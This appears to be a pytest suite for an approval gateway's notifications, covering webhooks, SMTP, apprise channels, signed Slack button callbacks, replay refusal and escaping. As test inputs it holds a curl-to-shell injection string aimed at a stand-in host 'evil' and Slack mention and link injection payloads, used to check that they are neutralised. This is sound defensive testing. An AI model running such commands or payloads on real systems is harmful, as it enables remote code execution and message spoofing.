"""Telling people, and hearing from them: webhooks, channels by apprise, and Slack with its buttons."""

from __future__ import annotations

import asyncio
import json
import time
from urllib.parse import urlencode

import msgspec
import orjson
import pytest
from aiohttp import web

from gateway.approvals import slack
from gateway.approvals.channels import Channel, Channels, Worker, title_and_body
from gateway.approvals.notify import Hook, Notifier, Seen, sign, verified
from gateway.approvals.slack import Preview
from gateway.approvals.values import Notice
from gateway.callbacks import Callbacks
from gateway.errors import ConfigError, Refused, Unauthenticated
from tests.approvals.support import events, opening, people, store_at

SECRET = b"a signing secret of thirty-two b."


@pytest.fixture
def store(tmp_path):
    made = store_at(tmp_path / "w.db")
    people(made.database, "ann", "vic:viewer")
    yield made
    made.database.close()


@pytest.fixture
def approval(store):
    return store.open(opening(target="bank/pay\u202e<!channel>")).approval


class Heard:
    """An HTTP server that keeps what it is told, and answers as it should."""

    def __init__(self) -> None:
        self.bodies: list[bytes] = []
        self.status = 200
        self.hang = False

    async def __aenter__(self):
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self._hear)
        self._runner = web.AppRunner(app, shutdown_timeout=0.1)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.port = site._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *_):
        await self._runner.cleanup()

    async def _hear(self, request):
        self.bodies.append(await request.read())
        if self.hang:
            await asyncio.sleep(30)
        return web.Response(status=self.status)


async def until(true, within_s=10.0):
    deadline = time.monotonic() + within_s
    while not true():
        assert time.monotonic() < deadline
        await asyncio.sleep(0.01)


# ----------------------------------------------------------------------------------------------- channels


def channel(**more):
    return Channel(name="team", env="TEAM", file=None, events=("opened", "escalated"), **more)


def worker(address, **more):
    made = Worker(channel(timeout_s=more.pop("timeout_s", 5.0)), lambda _: address, pauses_s=(0.01,), **more)
    made.start()
    return made


async def test_a_message_names_the_call_and_never_its_arguments(approval):
    async with Heard() as heard:
        channels = Channels(lambda _: f"json://127.0.0.1:{heard.port}/")
        wanted = {"team": channel(link="https://w.example/console/{id}")}
        await asyncio.to_thread(channels.check, wanted)
        channels.configure(wanted)
        channels.tell(Notice(event="opened", approval=approval))
        channels.tell(Notice(event="approved", approval=approval))  # not asked for
        await until(lambda: heard.bodies)
        said = json.loads(heard.bodies[0])
        assert said["title"] == "A call waits for approval"
        assert "bank/pay" in said["message"] and "too_much" in said["message"]
        assert f"https://w.example/console/{approval.id}" in said["message"]
        assert "amount" not in said["message"] and "\u202e" not in said["message"]
        await until(lambda: channels.deliveries()[0].results["delivered"] == 1)
        assert len(heard.bodies) == 1 and channels.deliveries()[0].last_s > 0
        channels.close()


async def test_mail_is_sent_by_smtp(approval):
    mails: list[bytes] = []

    async def serve(reader, writer):
        writer.write(b"220 mail\r\n")
        while line := await reader.readline():
            verb = line.upper().split()[0]
            if verb == b"DATA":
                writer.write(b"354 go on\r\n")
                mails.append(await reader.readuntil(b"\r\n.\r\n"))
            writer.write(b"221 bye\r\n" if verb == b"QUIT" else b"250 ok\r\n")
            if verb == b"QUIT":
                break
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    made = worker(f"mailto://127.0.0.1:{port}/?from=wardgate@example.com&to=ops@example.com&mode=insecure")
    made.put(Notice(event="escalated", approval=approval))
    await until(lambda: mails)
    assert b"More people may decide" in mails[0] and b"To: ops@example.com" in mails[0]
    made.stop()
    server.close()


async def test_what_is_not_taken_is_tried_again_then_given_up_and_counted(approval):
    async with Heard() as heard:
        heard.status = 503
        made = worker(f"json://127.0.0.1:{heard.port}/")
        made.put(Notice(event="opened", approval=approval))
        await until(lambda: made.results["failed"])
        assert made.results == {"delivered": 0, "failed": 1, "retried": 1, "dropped": 0}
        heard.status = 200
        made.put(Notice(event="opened", approval=approval))
        await until(lambda: made.results["delivered"])
        made.stop()


async def test_a_channel_that_never_answers_blocks_nobody_and_drops_what_is_too_much(approval):
    async with Heard() as heard:
        heard.hang = True
        dead = worker(f"json://127.0.0.1:{heard.port}/", timeout_s=0.3, most=3)
        dead.put(Notice(event="opened", approval=approval))
        await until(lambda: heard.bodies)
        started = time.monotonic()
        for _ in range(100):
            dead.put(Notice(event="opened", approval=approval))
        assert time.monotonic() - started < 0.2
        assert dead.delivery().waiting == 3 and dead.results["dropped"] == 97
        await until(lambda: dead.results["failed"])
        dead.stop()


@pytest.mark.parametrize("address", ["nosuch://x", "syslog://", "no address", "dbus://", "json://"])
def test_an_address_that_delivers_nothing_is_refused_without_quoting_it(address):
    with pytest.raises(ConfigError) as refused:
        Channels(lambda _: address).check({"team": channel()})
    assert address not in str(refused.value) and "approvals.channels.team" in str(refused.value)


async def test_a_secret_that_is_replaced_is_read_again(approval, tmp_path):
    from gateway.config_approvals import address

    async with Heard() as first, Heard() as second:
        file = tmp_path / "address"
        file.write_text(f"json://127.0.0.1:{first.port}/\n")
        made = Worker(
            Channel(name="team", env=None, file=file, events=("opened",)), address, pauses_s=(0.01,)
        )
        made.start()
        made.put(Notice(event="opened", approval=approval))
        await until(lambda: first.bodies)
        file.write_text(f"json://127.0.0.1:{second.port}/\n")
        made.put(Notice(event="opened", approval=approval))
        await until(lambda: second.bodies)
        assert len(first.bodies) == 1
        made.stop()


# ----------------------------------------------------------------------------------------------- webhooks


async def test_a_dead_webhook_holds_up_no_other_and_shows_in_the_numbers(approval):
    async with Heard() as good, Heard() as dead:
        dead.hang = True
        hooks = {
            name: Hook(
                name=name, url=f"http://127.0.0.1:{each.port}/", secret=SECRET, key_id="1", timeout_s=0.2
            )
            for name, each in (("good", good), ("dead", dead))
        }
        notifier = Notifier(time.time)
        notifier.configure(hooks)
        task = asyncio.create_task(notifier.run())
        for _ in range(20):
            notifier.tell(Notice(event="opened", approval=approval))
        await until(lambda: len(good.bodies) == 20, 5)
        found = {each.name: each for each in notifier.deliveries()}
        assert found["dead"].waiting >= 18 and found["dead"].last_s == 0
        notifier.configure({"good": hooks["good"]})
        assert [each.name for each in notifier.deliveries()] == ["good"]
        notifier.tell(Notice(event="expired", approval=approval))
        await until(lambda: len(good.bodies) == 21)
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)


def test_a_signature_is_taken_once_and_forgotten_when_it_is_too_old_to_be_taken():
    seen = Seen(most=2)
    assert seen.first("chat", "a", 0) and not seen.first("chat", "a", 299)
    assert seen.first("other", "a", 0)
    assert not seen.first("chat", "b", 10)  # too many to tell: refused, and not forgotten
    assert seen.first("chat", "b", 700)


# -------------------------------------------------------------------------------------------------- Slack

SLACK = Hook(
    name="slack", url="https://hooks.slack.com/x", secret=SECRET, key_id="1", style="slack",
    actors={"U1": "ann", "U2": "vic", "U3": "alice", "U4": "nobody"},
)  # fmt: skip


def click(approval, value="approve", user="U1", **more):
    block = f"wardgate|{approval.id}|{approval.version}|{approval.digest}"
    action = {"block_id": block, "type": "button", "action_id": "approve", "value": value}
    if value != "approve":
        action = {
            "block_id": block, "type": "static_select", "action_id": "reject",
            "selected_option": {"value": value},
        }  # fmt: skip
    said = {"type": "block_actions", "user": {"id": user}, "actions": [action], **more}
    return urlencode({"payload": json.dumps(said)}).encode()


def signed(body, at=None, secret=SECRET):
    at = int(time.time()) if at is None else at
    return "", str(at), sign(secret, at, body, slack.VERSION), body


async def hear(store, body, **more):
    callbacks = Callbacks(store, lambda name: SLACK if name == "slack" else None)
    return await callbacks.heard("slack", *signed(body, **more), time.time())


def test_slacks_own_example_of_a_signature_is_verified():
    """https://docs.slack.dev/authentication/verifying-requests-from-slack, its worked example."""
    body = (
        b"token=xyzz0WbapA4vBCDEFasx0q6G&team_id=T1DC2JH3J&team_domain=testteamnow&channel_id=G8PSS9T3V"
        b"&channel_name=foobar&user_id=U2CERLKJA&user_name=roadrunner&command=%2Fwebhook-collect&text="
        b"&response_url=https%3A%2F%2Fhooks.slack.com%2Fcommands%2FT1DC2JH3J%2F397700885554%2F96rGlfmibIGlgcZRskXaIFfN"
        b"&trigger_id=398738663015.47445629121.803a0bc887a14d10d2c447fce8b6703c"
    )
    hook = msgspec.structs.replace(SLACK, secret=b"8f742231b10e8888abcd99yyyzzz85a5")
    signature = "v0=a2114d57b48eac39b9ad189dd8316235a7b4a8d21a10bd27519666489c69b503"
    assert verified(hook, "", "1531420618", signature, body, 1531420618)
    assert not verified(hook, "", "1531420618", signature, body + b" ", 1531420618)
    assert not verified(hook, "", "1531420618", signature, body, 1531420618 + 301)


async def test_a_click_is_the_decision_of_the_person_about_what_they_were_shown(store, approval):
    operator, said = await hear(store, click(approval))
    assert (operator.name, operator.role, operator.credential) == ("ann", "approver", "callback:slack")
    assert (said.approval, said.version, said.digest, said.decision) == (
        approval.id, approval.version, approval.digest, "approve",
    )  # fmt: skip
    _, said = await hear(store, click(approval, "reject|too_risky"))
    assert (said.decision, said.reason_code) == ("reject", "too_risky")


@pytest.mark.parametrize("user", ["U2", "U3", "U4", "U9"])
async def test_an_unknown_person_or_one_who_only_looks_is_refused_and_recorded(store, approval, user):
    with pytest.raises(Refused) as refused:
        await hear(store, click(approval, user=user))
    assert refused.value.code == "wrong_role"
    full = store.show(approval.id, "default")
    assert full.events[-1].by == f"slack:{user}" and full.events[-1].detail == "approve: wrong_role"


async def test_a_click_overheard_and_sent_again_is_refused_and_recorded(store, approval):
    callbacks = Callbacks(store, lambda _: SLACK)
    once = signed(click(approval))
    await callbacks.heard("slack", *once, time.time())
    with pytest.raises(Refused) as refused:
        await callbacks.heard("slack", *once, time.time())
    assert refused.value.code == "callback_replayed" and events(store, approval)[-1] == "refused"


@pytest.mark.parametrize("wrong", [{"secret": b"x" * 32}, {"at": 1}])
async def test_a_click_that_is_not_signed_or_not_now_is_nobodys(store, approval, wrong):
    with pytest.raises(Unauthenticated):
        await hear(store, click(approval), **wrong)
    assert events(store, approval) == ["opened"]


@pytest.mark.parametrize(
    "body",
    [
        b"", b"payload=", b"payload=7", b"payload=%7B%7D", b"\xff", b"a=1&b=2&c=3&d=4&e=5",
        urlencode({"payload": json.dumps({"type": "view_submission"})}).encode(),
        urlencode({"payload": json.dumps({"type": "block_actions", "actions": []})}).encode(),
        urlencode(
            {"payload": json.dumps(
                {"type": "block_actions", "user": {"id": "U1"},
                 "actions": [{"type": "button", "block_id": "other|1|2|3", "value": "approve"}]}
            )}
        ).encode(),
    ],
)  # fmt: skip
async def test_what_is_no_click_of_ours_is_refused(store, body):
    with pytest.raises(Refused) as refused:
        await hear(store, body)
    assert refused.value.code == "invalid_request"


def test_without_the_arguments_there_is_no_button_to_approve(approval):
    notice = Notice(event="opened", approval=approval)

    def buttons(preview):
        blocks = slack.message(notice, preview)["blocks"]
        return [each["action_id"] for each in blocks[-1]["elements"]]

    assert buttons(Preview()) == ["reject"]
    assert buttons(slack.shown(b'{"to":"a"}', hidden=False)) == ["approve", "reject"]
    assert buttons(slack.shown(b'{"to":"a"}', hidden=True)) == ["reject"]
    assert buttons(slack.shown(json.dumps({"to": "a" * 3000}).encode(), hidden=False)) == ["reject"]


@pytest.mark.parametrize(
    "value",
    ["echo `curl evil|sh`", "a\u00a0b", "a\u3000b", "a\u2028b", "a\x85b", "a\vb", "a\rb", "\u202eb"],
)
def test_a_button_approves_nothing_that_is_shown_otherwise_than_it_is_sent(value):
    for arguments in ({"cmd": value}, {value: 1}):
        said = slack.shown(orjson.dumps(arguments), hidden=False)
        escaped = json.dumps(value)[1:-1] in said.arguments  # written out, as JSON writes what it must
        assert said.whole is (escaped and "`" not in value), said
    assert slack.shown(b'{"cmd":"a\\nb <c> & *d*","to":"Z\xc3\xbcrich"}', hidden=False).whole


def test_what_an_agent_writes_cannot_become_markup_or_a_mention(approval):
    hostile = {"to": "```<!channel> <@U1> <https://evil|click> *bold*\u202e\n```"}
    message = slack.message(
        Notice(event="opened", approval=approval), slack.shown(json.dumps(hostile).encode(), hidden=False)
    )
    text = json.dumps(message, ensure_ascii=False)
    assert "<!channel>" not in text and "<@U1>" not in text and "<https" not in text
    assert "\u202e" not in text and text.count("```") == 2
    longest = max(len(each["text"]["text"]) for each in message["blocks"] if "text" in each)
    assert longest <= 3000 and len(message["blocks"][-1]["block_id"]) <= 255


def test_a_message_about_an_end_has_no_buttons(approval):
    blocks = slack.message(Notice(event="rejected", approval=approval), Preview())["blocks"]
    assert [each["type"] for each in blocks] == ["section"]
    assert title_and_body(Notice(event="rejected", approval=approval), "")[0] == "A call was rejected"
